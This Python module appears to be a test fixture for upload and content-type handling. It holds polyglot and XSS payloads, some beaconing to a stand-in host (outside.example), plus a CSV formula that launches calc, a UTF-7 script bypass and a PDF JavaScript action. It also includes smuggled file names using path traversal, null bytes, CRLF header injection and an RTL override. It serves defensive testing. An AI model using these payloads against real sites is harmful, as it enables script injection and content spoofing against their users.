"""Files that a browser would run, or take for something else than they say, if anybody let it."""

import gzip
import struct
import zlib

RUN = b"top.xssRan&&top.xssRan(1);new Image().src='//outside.example/1'"
HTML = b"<!doctype html><script>" + RUN + b"</script><img src=//outside.example/2>"
SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="' + RUN + b'"><script>' + RUN + b"</script>"
    b'<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="//outside.example/3"/></body></foreignObject></svg>'
)
_GIF = b"GIF89a/*\x01\x00*/=1;" + RUN + b"//\x3b"
_JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
_PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj\ntrailer<</Root 1 0 R>>\n"
_XSLT = (
    b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>'
    + RUN
    + b"</h:script></x>"
)


def _png(comment: bytes) -> bytes:
    """A real picture of one point, with a comment."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return (
            struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
        )

    head = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixel = zlib.compress(b"\x00\x00\x00\x00")
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"tEXt", b"c\x00" + comment)
        + chunk(b"IDAT", pixel)
        + chunk(b"IEND", b"")
    )


# name, declared type, content
FILES: tuple[tuple[str, str, bytes], ...] = (
    ("a.svg", "image/svg+xml", SVG), ("a.svg", "image/png", SVG), ("a.png", "image/svg+xml", SVG), ("a.svgz", "image/svg+xml", gzip.compress(SVG)),
    ("a.svg", "", SVG), ("a.svg", "text/plain", b"\xef\xbb\xbf" + SVG), ("a.SVG", "IMAGE/SVG+XML; charset=utf-8", SVG), ("a.html", "text/html", HTML),
    ("a.htm", "text/html; charset=utf-7", b"+ADw-script+AD4-" + RUN + b"+ADw-/script+AD4-"), ("a.html", "text/plain", HTML), ("a.txt", "text/html", HTML), ("a", "", HTML),
    ("a.jpg", "image/jpeg", HTML), ("a.png", "image/png", b"   \n\t" + HTML), ("a.pdf", "application/pdf", HTML), ("a.xhtml", "application/xhtml+xml", b'<html xmlns="http://www.w3.org/1999/xhtml"><script>' + RUN + b"</script></html>"),
    ("a.xml", "text/xml", _XSLT), ("a.xml", "application/xml", _XSLT), ("a.xsl", "text/xsl", _XSLT), ("a.rss", "application/rss+xml", _XSLT), ("a.mml", "application/mathml+xml", b'<math xmlns="http://www.w3.org/1998/Math/MathML"><maction xlink:href="javascript:' + RUN + b'"/></math>'),
    ("a.mht", "multipart/related; boundary=x", b"--x\r\nContent-Type: text/html\r\n\r\n" + HTML + b"\r\n--x--"), ("a.mhtml", "message/rfc822", b"Content-Type: text/html\r\n\r\n" + HTML), ("a.eml", "message/rfc822", b"Content-Type: text/html\r\n\r\n" + HTML),
    ("a.js", "text/javascript", RUN), ("a.mjs", "application/javascript", RUN), ("a.json", "application/json", b'{"__proto__":{"x":"' + HTML + b'"}}'), ("a.css", "text/css", b"@import '//outside.example/4';"), ("a.wasm", "application/wasm", b"\0asm\1\0\0\0"),
    ("a.gif", "image/gif", _GIF), ("a.gif", "text/javascript", _GIF), ("a.gif.html", "image/gif", b"GIF89a" + HTML), ("a.jpg", "image/jpeg", _JPEG + HTML), ("a.jpg.svg", "image/jpeg", _JPEG + SVG), ("a.png", "image/png", _png(HTML)), ("a.png.html", "text/html", _png(HTML)),
    ("a.pdf", "application/pdf", _PDF), ("a.pdf.html", "application/pdf", _PDF + HTML), ("a.zip", "application/zip", b"PK\x03\x04" + HTML), ("a.jar", "application/java-archive", b"PK\x03\x04" + HTML), ("a.swf", "application/x-shockwave-flash", b"FWS\x09" + HTML), ("a.hta", "application/hta", HTML),
    ("a.wav", "audio/wav", b"RIFF\x24\0\0\0WAVE" + HTML), ("a.mp4", "video/mp4", b"\0\0\0\x18ftypmp42" + HTML), ("a.vtt", "text/vtt", b"WEBVTT\n\n00:00.000 --> 00:09.000\n<script>" + RUN + b"</script>"), ("a.ics", "text/calendar", b"BEGIN:VCALENDAR\nURL:javascript:" + RUN), ("a.vcf", "text/vcard", b"BEGIN:VCARD\nURL:javascript:" + RUN),
    ("a.webmanifest", "application/manifest+json", b'{"start_url":"//outside.example/5"}'), ("a.bmp", "image/bmp", b"BM" + HTML), ("a.ico", "image/x-icon", b"\0\0\1\0" + HTML), ("a.url", "application/internet-shortcut", b"[InternetShortcut]\nURL=javascript:" + RUN), ("a.md", "text/markdown", b"[x](javascript:" + RUN + b")" + HTML),
    ("a.csv", "text/csv", b"=cmd|' /C calc'!A0\n" + HTML), ("a.html\x00.png", "image/png", HTML), ("a.html;.png", "image/png", HTML), ("../../a.html", "text/html", HTML), ('a".html', "text/html", HTML), ("a\r\nContent-Type: text/html\r\n\r\n.png", "image/png", HTML), ("\u202egnp.lmth", "text/html", HTML),
    ("a.utf16.html", "text/html; charset=utf-16", HTML.decode().encode("utf-16")), ("a.utf32.html", "text/html", HTML.decode().encode("utf-32")), ("a.shtml", "text/x-server-parsed-html", HTML), ("a.php", "application/x-httpd-php", HTML), ("a.xpi", "application/x-xpinstall", b"PK\x03\x04"), ("sw.js", "text/javascript", b"onfetch=e=>e.respondWith(new Response('x'))"),
)  # fmt: skip
